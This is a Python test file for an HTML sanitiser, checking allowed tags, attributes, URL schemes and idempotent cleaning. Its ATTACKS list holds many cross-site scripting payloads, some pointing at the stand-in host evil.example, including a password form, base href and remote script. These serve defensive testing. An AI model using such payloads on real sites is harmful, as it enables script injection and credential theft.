from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coproduce.markup import ATTRIBUTES, REL, TAGS, clean


class Found(HTMLParser):
    """Every tag with its attributes, as a browser's parser meets them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Found(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name in ("href", "src"):
            address = urlsplit((attributes.get(name) or "").strip())
            assert address.scheme in {"", "http", "https", "mailto"}


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='https://example.org' onclick=alert(1) target=_blank style='position:fixed'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>* { display: none }</style>",
    "<p style='background:url(//evil.example)' class=x id=main>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p><b><div></p>",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_outside_the_list_is_left_of_an_attack(attack: str) -> None:
    cleaned = clean(attack)
    assert_harmless(cleaned)
    assert "onerror=alert(1)>" not in cleaned
    assert clean(cleaned) == cleaned


PIECES = st.sampled_from(
    ["<p>", "</p>", "<a href='", "'>", "</a>", "<script>", "</script>", "<style>", "<svg>", "<math>", "<!--",
     "-->", "javascript:", "https://example.org", "<img src=x ", "onerror=x ", ">", "<", '"', "&", "&lt;",
     "<h2>", "<li>", "<ul>", "<table>", "<title>", "<noscript>", "words"]
)  # fmt: skip


@given(html=st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=60))
def test_any_text_comes_out_harmless_and_stays_as_it_is_when_cleaned_again(html: str) -> None:
    cleaned = clean(html)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned


KEPT = [
    "<h2>What we did</h2><p>We <strong>met</strong> and <em>talked</em>.</p>",
    "<ul><li>One</li></ul><ol><li>Two</li></ol><figure><figcaption>A</figcaption></figure>",
    "<blockquote><p>Said together</p></blockquote>",
    '<figure><img src="/media/wall.jpg" alt="The wall" width="640" height="480"></figure>',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_a_write_up_needs_is_kept_as_it_is(html: str) -> None:
    assert clean(html) == html


@pytest.mark.parametrize(
    "address", ["https://example.org/a", "http://example.org", "mailto:a@example.org", "/events/"]
)
def test_a_link_keeps_its_address_and_gives_nothing_away(address: str) -> None:
    (_, attributes), *_ = Found(clean(f'<a href="{address}">x</a>')).tags
    assert attributes == {"href": address, "rel": REL}


def test_words_survive_when_their_tags_do_not() -> None:
    assert clean("<div><font color=red>Keep this.</font></div>") == "Keep this."
